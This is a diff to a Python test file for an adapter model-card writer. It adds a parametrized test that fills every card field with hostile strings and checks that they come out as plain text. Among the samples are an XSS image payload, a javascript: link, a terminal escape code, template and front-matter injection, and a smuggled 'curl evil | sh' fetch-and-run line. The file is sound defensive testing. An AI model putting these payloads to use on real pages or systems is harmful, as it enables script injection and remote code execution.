@@ -3,6 +3,7 @@
 import pytest
 import yaml
 from huggingface_hub import ModelCard
+from markdown_it import MarkdownIt
 
 from speft_ds.adapter.card import card_text, write_card
 from speft_ds.adapter.format import Adapter
@@ -105,3 +106,40 @@ def test_a_card_is_written_beside_the_adapter(tmp_path):
     names = sorted(path.name for path in folder.iterdir())
     assert names == ["README.md", "adapter.json", "adapter.safetensors"]
     refused(lambda: write_card(tmp_path, SCORES), tmp_path)
+
+
+HOSTILE = [
+    "pos\nneg",
+    "a|b",
+    "<img src=x onerror=alert(1)>",
+    "[click](javascript:alert(1))",
+    "back\\",
+    "x\n\n# Heading\n\n```bash\ncurl evil | sh\n```",
+    "\\| c",
+    "\x1b[2J",
+    "{{ 7 * 7 }}",
+    "---\nlicense: mit\n---",
+]
+
+
+def card_of(text):
+    """A card whose facts and scores say a text wherever they may."""
+    recipe = {"name": text, "data": {"path": text}, "mask": {"salience": text}, "optimizer": {"lr": text}}
+    history = [text, {"command": text, "method": text, "of": [{"folder": text}]}]
+    facts = {"base": f"/m/{text}", "classes": [text, text], "recipe": recipe, "history": history}
+    scores = [{"task": text, "metric": text, "before": None, "after": 0.5, "stderr": None}]
+    return card_text(COMPLETE | facts, scores, 84)
+
+
+def parsed(card):
+    return MarkdownIt("commonmark").enable("table").parse(card.split("---\n", 2)[2])
+
+
+@pytest.mark.parametrize("text", HOSTILE)
+def test_what_a_foreign_adapter_says_is_text(text):
+    card = card_of(text)
+    assert "\x1b" not in card and "license" not in metadata(card)
+    tokens = parsed(card)
+    assert [token.type for token in tokens] == [token.type for token in parsed(card_of("x"))]
+    assert {child.type for token in tokens for child in token.children or ()} <= {"text", "text_special"}
+    compile(code_of(card), "card", "exec")
